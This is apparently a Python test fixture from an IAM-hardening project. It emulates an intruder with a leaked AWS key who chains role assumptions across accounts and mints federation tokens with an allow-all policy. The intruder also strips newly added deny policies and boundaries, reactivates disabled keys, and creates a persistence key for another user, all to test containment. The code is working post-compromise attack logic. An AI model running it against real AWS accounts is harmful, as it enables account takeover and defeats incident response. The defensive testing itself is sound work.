# Copyright (c) 2026, hardening.iam contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""An intruder with a leaked key of the seed ``incident``: goes on by roles, and undoes what is done against it.

with Intruder(url, interval=1.0) as intruder:
    contain()
assert intruder.find_able() == []

Each round opens sessions along the chain, takes denials away, activates keys, and makes a key for another user. It uses
every credential that it ever got, the newest first. Its thread ends with the block.
"""

from __future__ import annotations

import threading
import time
import typing as t
from dataclasses import dataclass, field

import boto3
from botocore.config import Config
from botocore.exceptions import BotoCoreError, ClientError

from emulator.seed import access_key_id

HOME, PROD, DATA = "222233334444", "333344445555", "444455556666"
USER: t.Final = "ci-deploy"
OTHER_USER: t.Final = "report-export"
LEAKED: t.Final = access_key_id(HOME, USER)
#: From the user on, each assumed with the one before.
CHAIN: t.Final = (
    f"arn:aws:iam::{HOME}:role/pipeline",
    f"arn:aws:iam::{PROD}:role/deploy",
    f"arn:aws:iam::{DATA}:role/warehouse",
)
#: Assumed by the user besides.
SHARED: t.Final = f"arn:aws:iam::{HOME}:role/build-worker"

_CONFIG: t.Final = Config(retries={"total_max_attempts": 1}, connect_timeout=5, read_timeout=30)
_SESSION: t.Final = "build-7"
_EVERYTHING: t.Final = '{"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}'


@dataclass(frozen=True)
class Credential:
    """A credential of the intruder. ``level`` is the number of hops from the user; ``kind`` says how it came."""

    key_id: str
    account_id: str
    kind: t.Literal["key", "token", "federated", "role", "shared", "other"]
    level: int = 0
    secret: str = field(default="leaked", repr=False)
    token: str | None = field(default=None, repr=False)


@dataclass(frozen=True)
class Attempt:
    """A call of the intruder: in which round, what (``iam:list_roles``), with which key, when, and its error's code."""

    number: int
    action: str
    key_id: str
    moment: float
    error: str | None


class Intruder:
    """Works in a thread from ``with`` on, a round each ``interval`` seconds, or by :meth:`work` in the caller's."""

    def __init__(self, url: str, *, key_id: str = LEAKED, interval: float = 1.0) -> None:
        self.credentials = [Credential(key_id, HOME, "key")]
        self.attempts: list[Attempt] = []
        self.rounds = 0
        self._url = url
        self._interval = interval
        self._session = boto3.Session()
        self._clients: dict[tuple[str, str], t.Any] = {}
        self._ends = threading.Event()
        self._thread = threading.Thread(target=self._go_on, name="intruder", daemon=True)
        # What belongs to the user and the roles, and so is no denial of somebody else's.
        self._own: dict[str, frozenset[str]] = {}

    def __enter__(self) -> Intruder:
        self.work()
        self._thread.start()
        return self

    def __exit__(self, *_raised: object) -> None:
        self.stop()

    @property
    def is_at_work(self) -> bool:
        """Whether its thread runs."""
        return self._thread.is_alive()

    def stop(self) -> None:
        """Stop after the round that it is in."""
        self._ends.set()
        if self._thread.is_alive():
            self._thread.join()

    def work(self) -> None:
        """One round."""
        self.rounds += 1
        self._open_sessions()
        self._take_denials_away()
        self._activate_keys()
        self._persist()

    def find_able(self) -> list[tuple[Credential, str]]:
        """The credentials that can still do something, each with the first call that succeeded.

        GetCallerIdentity does not count: AWS answers it to everybody.
        """
        found = ((credential, self._probe(credential)) for credential in self.credentials)
        return [(credential, action) for credential, action in found if action]

    def succeeded(self, *, since: float = 0.0) -> list[Attempt]:
        """The calls that succeeded from a moment of ``time.monotonic()`` on."""
        return [attempt for attempt in self.attempts if attempt.error is None and attempt.moment >= since]

    def _go_on(self) -> None:
        while not self._ends.wait(self._interval):
            self.work()

    # What it does

    def _open_sessions(self) -> None:
        for level, role in enumerate(CHAIN):
            self._assume(role, level, "role")
        self._assume(SHARED, 0, "shared")
        for credential in self._newest("key", 0)[:1]:
            self._keep(self._call(credential, "sts", "get_session_token"), HOME, "token", 0)
            answer = self._call(credential, "sts", "get_federation_token", Name="build", Policy=_EVERYTHING)
            self._keep(answer, HOME, "federated", 0)

    def _assume(self, role: str, level: int, kind: t.Literal["role", "shared"]) -> None:
        """Open a session of a role, with the newest credential of the level before that can."""
        able = self._newest("role", level) if level else [*self._newest("key", 0), *self._newest("token", 0)]
        for credential in able:
            answer = self._call(credential, "sts", "assume_role", RoleArn=role, RoleSessionName=_SESSION)
            if answer:
                self._keep(answer, role.split(":")[4], kind, level + 1)
                return

    def _take_denials_away(self) -> None:
        for credential in [*self._newest("key", 0)[:2], *self._newest("role", 1)[:1]]:
            self._clean(credential, "user", USER)
        for level, role in enumerate((*CHAIN, SHARED), start=1):
            for credential in self._newest("role", 1 if role == SHARED else level)[:1]:
                self._clean(credential, "role", role.rpartition("/")[2])

    def _clean(self, credential: Credential, kind: str, name: str) -> None:
        """Detach and delete the policies that were not there when it came, and a user's boundary."""
        named = {f"{kind.title()}Name": name}
        attached = self._call(credential, "iam", f"list_attached_{kind}_policies", **named)
        inline = self._call(credential, "iam", f"list_{kind}_policies", **named)
        if not (attached and inline):
            return
        arns = {policy["PolicyArn"] for policy in attached["AttachedPolicies"]}
        names = set(inline["PolicyNames"])
        own = self._own.setdefault(f"{credential.account_id} {kind} {name}", frozenset(arns | names))
        for arn in sorted(arns - own):
            self._call(credential, "iam", f"detach_{kind}_policy", **named, PolicyArn=arn)
        for policy in sorted(names - own):
            self._call(credential, "iam", f"delete_{kind}_policy", **named, PolicyName=policy)
        if kind == "user":
            self._call(credential, "iam", "delete_user_permissions_boundary", **named)

    def _activate_keys(self) -> None:
        for credential in [*self._newest("key", 0)[:2], *self._newest("role", 1)[:1]]:
            listed = self._call(credential, "iam", "list_access_keys", UserName=USER) or {}
            for key in listed.get("AccessKeyMetadata", ()):
                if key["Status"] == "Inactive":
                    asked = {"UserName": USER, "AccessKeyId": key["AccessKeyId"], "Status": "Active"}
                    self._call(credential, "iam", "update_access_key", **asked)

    def _persist(self) -> None:
        if any(credential.kind == "other" for credential in self.credentials):
            return
        for credential in [*self._newest("key", 0)[:1], *self._newest("role", 1)[:1]]:
            answer = self._call(credential, "iam", "create_access_key", UserName=OTHER_USER)
            if answer:
                key = answer["AccessKey"]
                self.credentials.append(Credential(key["AccessKeyId"], HOME, "other", secret=key["SecretAccessKey"]))
                return

    # How it does it

    def _probe(self, credential: Credential) -> str:
        """The first of some calls that succeeds with a credential; empty if none does."""
        if self._call(credential, "s3", "list_buckets"):
            return "s3:ListAllMyBuckets"
        if self._call(credential, "iam", "list_roles"):
            return "iam:ListRoles"
        role = CHAIN[credential.level] if credential.level < len(CHAIN) else ""
        asked = {"RoleArn": role, "RoleSessionName": _SESSION}
        return "sts:AssumeRole" if role and self._call(credential, "sts", "assume_role", **asked) else ""

    def _newest(self, kind: str, level: int) -> list[Credential]:
        return [one for one in reversed(self.credentials) if (one.kind, one.level) == (kind, level)][:5]

    def _keep(
        self, answer: t.Any, account_id: str, kind: t.Literal["token", "federated", "role", "shared"], level: int
    ) -> None:
        if answer:
            made = answer["Credentials"]
            self.credentials.append(
                Credential(made["AccessKeyId"], account_id, kind, level, made["SecretAccessKey"], made["SessionToken"])
            )

    def _call(self, credential: Credential, service: str, operation: str, **asked: str) -> t.Any:
        """The answer of a call, or None if it fails."""
        answer, error = None, None
        try:
            answer = getattr(self._client(service, credential), operation)(**asked)
        except ClientError as failure:
            error = failure.response["Error"]["Code"]
        except BotoCoreError as failure:
            error = type(failure).__name__
        attempt = Attempt(self.rounds, f"{service}:{operation}", credential.key_id, time.monotonic(), error)
        self.attempts.append(attempt)
        return answer

    def _client(self, service: str, credential: Credential) -> t.Any:
        known = (service, credential.key_id)
        if known not in self._clients:
            # boto3's stubs know each service by its literal name.
            make: t.Callable[..., t.Any] = self._session.client
            self._clients[known] = make(
                service,
                endpoint_url=self._url,
                region_name="us-east-1",
                aws_access_key_id=credential.key_id,
                aws_secret_access_key=credential.secret,
                aws_session_token=credential.token,
                config=_CONFIG,
            )
        return self._clients[known]
